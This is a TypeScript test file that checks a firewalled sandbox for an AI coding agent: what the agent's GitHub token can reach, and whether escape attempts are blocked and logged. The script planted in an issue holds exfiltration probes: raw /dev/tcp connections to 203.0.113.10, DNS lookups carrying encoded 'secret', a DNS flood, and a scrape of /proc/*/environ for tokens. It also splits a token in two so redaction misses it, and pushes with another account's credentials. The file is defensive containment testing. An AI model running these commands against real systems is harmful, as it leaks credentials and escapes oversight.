import { readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type EvidenceRow, furtherTargets } from "../../src/run/evidence.ts";
import type { RunId } from "../../src/run/identity.ts";
import { verifyChain } from "../../src/secret/chain.ts";
import { openHouse, type TestHouse } from "../helpers/house.ts";

/** What the documentation's table names in code: no more and no less is found open. */
const docs = readFileSync(path.join(import.meta.dirname, "../../docs/firewalled.md"), "utf8");
const listed = [...docs.matchAll(/^\| `([a-z-]+)` \|/gm)].map(([, name]) => name ?? "").sort();

let house: TestHouse;
beforeAll(async () => {
  house = await openHouse({ mode: "firewalled" });
}, 400_000);
afterAll(() => house?.close());

/** 5,000 names that were never asked before, each answered before the next ones are asked. */
const flood = `import { createSocket } from "node:dgram";
const socket = createSocket("udp4");
let sent = 0, answered = 0;
const ask = () => {
  const name = Buffer.from(String(sent++).padStart(8, "0"));
  socket.send(Buffer.concat([Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 8]), name, Buffer.from([4, 102, 108, 111, 111, 0, 0, 1, 0, 1])]), 53, "127.0.0.53");
};
socket.on("message", () => (++answered === 5000 ? (console.log("RESULT flood no"), process.exit()) : sent < 5000 && ask()));
for (let i = 0; i < 20; i++) ask();`;

const site = "http://github.airlock.test:443";

async function evidenceOf(of: TestHouse, run: RunId): Promise<EvidenceRow[]> {
  const evidence = await of.local.app.reader.evidence(run);
  expect(verifyChain(run, evidence?.rows ?? [], evidence?.head)).toMatchObject({ ok: true });
  return [...(evidence?.rows ?? [])];
}

/** Nothing that was refused is silent, and a flood is a few rows. Nothing of what the probe tried before the agent is among it. */
function expectRecorded(rows: EvidenceRow[], page: string): void {
  const network = rows.filter(({ door }) => door === "network");
  const sum = (rule: string, target: string) =>
    network.reduce((all, row) => all + (row.rule === rule && row.target === target ? (row.times ?? 1) : 0), 0);
  expect(network.every(({ verdict }) => verdict === "refused")).toBe(true);
  expect(sum("firewall.address", "203.0.113.10:80")).toBeGreaterThanOrEqual(2);
  expect(sum("firewall.address", "203.0.113.10:22")).toBeGreaterThanOrEqual(1);
  expect(sum("resolver.name", "c2vjcmv0.canary.test")).toBeGreaterThanOrEqual(3);
  const flooded = network.filter(({ rule, target }) => rule === "resolver.name" && target.endsWith(".floo"));
  expect(flooded.length).toBeGreaterThan(10);
  expect(sum("resolver.name", furtherTargets) + flooded.length).toBe(5_000);
  expect(network.length).toBeLessThan(120);
  expect(network.filter(({ target }) => target.includes("example.com"))).toEqual([]);
  expect(page).toContain("203.0.113.10:80");
  expect(page).toContain("c2vjcmv0.canary.test");
  expect(page).toContain("resolver.name: the resolver knows");
}

describe("the token inside a firewalled sandbox", { timeout: 180_000 }, () => {
  it("[17][55] can do what the documentation lists, and no more; it is revoked when the run ends", async () => {
    const { github } = house.local;
    await github.addRepository({ owner: "acme", name: "vault", files: { "secret.txt": "kept" }, private: true } as never);
    // In two pieces: the prompt's redaction knows what a token looks like.
    const outsider = `${github.users.maintainer.token.slice(0, 6)}''${github.users.maintainer.token.slice(6)}`;
    const main = await house.tipOf("main");
    const issue = await house.openIssue({
      title: "Push by hand",
      shell: [
        'try() { name=$1; shift; if timeout 20 "$@" >/dev/null 2>&1; then echo "RESULT $name yes"; else echo "RESULT $name no"; fi; }',
        `try clone git clone -q ${site}/acme/shop.git /tmp/c`,
        "cd /tmp/c && git commit -q --allow-empty -m 'By hand'",
        "try other-branch git push -q origin HEAD:refs/heads/by-hand",
        "try tag git push -q origin HEAD:refs/tags/by-hand",
        `try pull-request curl -fsS -X POST -H "authorization: token $(cat /github/token)" -d '{"title":"By hand","head":"by-hand","base":"main"}' ${site}/api/v3/repos/acme/shop/pulls`,
        `try other-repository git push -q ${site}/acme/vault.git HEAD:refs/heads/by-hand`,
        `try api-issues curl -fsS -X POST -H "authorization: token $(cat /github/token)" -d '{"body":"x"}' ${site}/api/v3/repos/acme/shop/issues/1/comments`,
        `try api-vault curl -fsS -H "authorization: token $(cat /github/token)" ${site}/api/v3/repos/acme/vault/contents/secret.txt`,
        `try other-account git push -q http://x:${outsider}@github.airlock.test:443/acme/vault.git HEAD:refs/heads/carried-out`,
        "try token-by-environment sh -c 'cat /proc/*/environ | grep -aq ghs_'",
        "try token-of-others sh -c 'ls /github | grep -vx -e host -e token'",
        ...['for port in 80 80 22; do timeout 3 bash -c "echo >/dev/tcp/203.0.113.10/$port" 2>/dev/null; done'],
        ...["for i in 1 2 3; do getent ahostsv4 c2VjcmV0.canary.test; done", `cat >/tmp/flood.mjs <<'END'\n${flood}\nEND`],
        "node /tmp/flood.mjs",
        "cd /work/repo && echo done > by-hand.txt && git add -A && git commit -q -m 'Add by-hand.txt'",
      ].join("\n"),
    });
    await house.setLabel(issue, "writer");
    const run = await house.ended(issue);
    const said = await house.transcriptOf(run.id);
    const result = Object.fromEntries([...said.matchAll(/RESULT ([a-z-]+) (yes|no)/g)].map(([, name, got]) => [name, got]));

    expect(run.state.outcome).toBe("succeeded");
    expect(run.mode).toBe("firewalled");
    // Open, and listed in the documentation by the same names.
    const open = Object.entries(result).flatMap(([name, got]) => (got === "yes" ? [name] : []));
    expect(open.sort()).toEqual(listed);
    expect(
      Object.entries(result)
        .flatMap(([name, got]) => (got === "no" ? [name] : []))
        .sort(),
    ).toEqual([...["api-issues", "api-vault", "flood", "other-repository", "token-by-environment", "token-of-others"]]);
    expect(await house.tipOf("main")).toBe(main);
    const insider = run.grants.find(({ duty }) => duty === "insider");
    expect(insider).toMatchObject({
      permissions: { contents: "write", pull_requests: "write" },
      revokedAtMs: expect.any(Number),
    });
    expect(said).not.toMatch(/ghs_[A-Za-z0-9]{10}/);
    const page = await house.page(run);
    expect(page.text).toContain("one of them is inside the sandbox");
    const { json: pull } = await house.ask("maintainer", "GET", `/pulls/${run.pullRequest?.number}`);
    expect(pull.body).toContain("firewalled: GitHub's addresses only, one short-lived token inside");
    expect(house.local.internet?.hits()).toEqual([]);
    // What moved by hand is named, and that nobody guards main.
    for (const text of [page.text, String(pull.body)]) {
      expect(text).toContain("main is not protected");
      for (const ref of ["refs/heads/by-hand", "refs/tags/by-hand"]) expect(text).toContain(`${ref} is new`);
      expect(text).not.toContain("refs/heads/main moved");
    }
    expectRecorded(await evidenceOf(house, run.id), page.text);
  });
});
